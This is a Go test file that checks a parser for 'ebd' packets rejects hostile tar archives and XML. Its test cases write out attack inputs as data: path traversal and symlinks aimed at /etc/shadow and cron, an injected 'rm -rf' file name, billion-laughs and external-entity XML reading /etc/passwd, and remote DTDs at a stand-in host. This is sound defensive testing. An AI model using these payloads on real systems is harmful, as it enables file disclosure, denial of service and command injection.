package ebd_test

import (
	"archive/tar"
	"bytes"
	"errors"
	"strings"
	"testing"

	"dalaba/ebd"
)

// tarOf writes raw tar headers (and data of the declared size unless
// short) without the checks ebd.WriteTar makes.
func tarOf(t testing.TB, hdrs ...tar.Header) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, h := range hdrs {
		h := h
		if h.Typeflag == 0 {
			h.Typeflag = tar.TypeReg
		}
		if h.Mode == 0 {
			h.Mode = 0o644
		}
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg && h.Size < 1<<20 {
			tw.Write(bytes.Repeat([]byte("x"), int(h.Size)))
		}
	}
	tw.Close()
	return buf.Bytes()
}

func reg(name string, size int64) tar.Header { return tar.Header{Name: name, Size: size} }

// TestTarAttacks: issue 8's hostile tar entries, one named case each.
func TestTarAttacks(t *testing.T) {
	many := make([]tar.Header, 17)
	for i := range many {
		many[i] = reg(strings.Repeat("a", i+1), 1)
	}
	lim := ebd.Limits{MaxEntries: 16, MaxTotal: 1 << 20}
	cases := []struct {
		name string
		tar  []byte
		want string
	}{
		{"dot dot path", tarOf(t, reg("../../etc/cron.d/evil", 4)), "paths with .."},
		{"dot dot inside", tarOf(t, reg("a/../../b", 4)), "paths with .."},
		{"absolute path", tarOf(t, reg("/etc/passwd", 4)), "absolute paths"},
		{"folder path", tarOf(t, reg("sub/EBDB_1.xml", 4)), "flat"},
		{"backslash path", tarOf(t, reg(`..\..\evil`, 4)), "flat"},
		{"symlink", tarOf(t, tar.Header{Name: "EBDR_a.mp3", Typeflag: tar.TypeSymlink, Linkname: "/etc/shadow"}), "symbolic links"},
		{"hard link", tarOf(t, tar.Header{Name: "EBDR_a.mp3", Typeflag: tar.TypeLink, Linkname: "/etc/shadow"}), "hard links"},
		{"char device", tarOf(t, tar.Header{Name: "tty", Typeflag: tar.TypeChar, Devmajor: 4}), "devices"},
		{"block device", tarOf(t, tar.Header{Name: "sda", Typeflag: tar.TypeBlock, Devmajor: 8}), "devices"},
		{"fifo", tarOf(t, tar.Header{Name: "pipe", Typeflag: tar.TypeFifo}), "pipes"},
		{"directory", tarOf(t, tar.Header{Name: "dir/", Typeflag: tar.TypeDir}), "folders"},
		{"duplicate name", tarOf(t, reg("EBDB_1.xml", 4), reg("EBDB_1.xml", 4)), "appears twice"},
		{"duplicate name by case", tarOf(t, reg("EBDR_a.mp3", 4), reg("ebdr_A.MP3", 4)), "appears twice"},
		{"huge declared size", tarOf(t, reg("EBDR_a.mp3", 1<<40)), "declared size"},
		{"sizes adding past the limit", tarOf(t, reg("a", 600<<10), reg("b", 600<<10)), "declared size"},
		{"too many entries", tarOf(t, many...), "more than 16 entries"},
		{"hidden file", tarOf(t, reg(".bashrc", 4)), "start with a dot"},
		{"odd characters", tarOf(t, reg("a;rm -rf", 4)), "not allowed"},
		{"truncated entry", tarOf(t, reg("a", 1000))[:512+100], "truncated"},
		{"empty archive", tarOf(t), "no files"},
		{"not a tar", []byte("PK\x03\x04 this is a zip"), "tar"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			files, err := ebd.ReadTar(bytes.NewReader(tc.tar), lim)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("got %d files, err %v; want an error saying %q", len(files), err, tc.want)
			}
		})
	}
}

// TestXMLAttacks: issue 8's hostile XML, each refused before anything is
// expanded or fetched, in the EBDB and in the signature file.
func TestXMLAttacks(t *testing.T) {
	const head = `<?xml version="1.0" encoding="UTF-8"?>`
	laughs := head + `<!DOCTYPE EBD [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">` +
		`<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><EBD><EBDID>&d;</EBDID></EBD>`
	cases := []struct {
		name string
		doc  string
		want string
	}{
		{"billion laughs", laughs, "DOCTYPE"},
		{"external entity", head + `<!DOCTYPE EBD [<!ENTITY x SYSTEM "file:///etc/passwd">]><EBD><EBDID>&x;</EBDID></EBD>`, "DOCTYPE"},
		{"remote DTD", head + `<!DOCTYPE EBD SYSTEM "http://203.0.113.9/evil.dtd"><EBD/>`, "DOCTYPE"},
		{"parameter entity", head + `<!DOCTYPE EBD [<!ENTITY % p SYSTEM "http://203.0.113.9/p">%p;]><EBD/>`, "DOCTYPE"},
		{"undeclared entity", head + `<EBD><EBDID>&x;</EBDID></EBD>`, "entity"},
		{"XInclude", head + `<EBD xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></EBD>`, "XInclude"},
		{"XInclude default namespace", head + `<EBD><include xmlns="http://www.w3.org/2001/XInclude" href="/etc/passwd"/></EBD>`, "XInclude"},
		{"stylesheet instruction", head + `<?xml-stylesheet href="http://203.0.113.9/x.xsl"?><EBD/>`, "processing instruction"},
		{"deep nesting", head + strings.Repeat("<a>", 100) + strings.Repeat("</a>", 100), "nested deeper"},
		{"too large", head + "<EBD>" + strings.Repeat("x", ebd.MaxXMLSize) + "</EBD>", "larger than the limit"},
		{"GB2312 declared", `<?xml version="1.0" encoding="GB2312"?><EBD/>`, "UTF-8"},
		{"two roots", head + `<EBD/><EBD/>`, "more than one root"},
		{"unclosed", head + `<EBD><EBDID>1</EBDID>`, "xml"},
		{"empty", "", "no root element"},
	}
	city, _, trust := platforms(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := ebd.ParseEBD([]byte(tc.doc)); err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("EBDB: got %v, want an error saying %q", err, tc.want)
			}
			if tc.doc == "" {
				return // nothing to sign
			}
			// The same document, correctly signed, as a packet: parse failure (2).
			sig, err := city.Signer.Sign([]byte(tc.doc), ebdID, now)
			if err != nil {
				t.Fatal(err)
			}
			files := []ebd.File{{Name: "EBDB_" + ebdID + ".xml", Data: []byte(tc.doc)}, {Name: "EBDS_EBDB_" + ebdID + ".xml", Data: sig}}
			var e *ebd.Error
			if _, err := ebd.Open(files, trust, now); !errors.As(err, &e) || e.Code != ebd.ResultParse {
				t.Fatalf("packet: got %v, want result code 2", err)
			}
			// As the signature file: signature failure (4).
			files[0].Data, files[1].Data = []byte(head+"<EBD/>"), []byte(strings.Replace(tc.doc, "EBD", "Signature", -1))
			if _, err := ebd.Open(files, trust, now); !errors.As(err, &e) || e.Code != ebd.ResultSignature {
				t.Fatalf("signature file: got %v, want result code 4", err)
			}
		})
	}
}
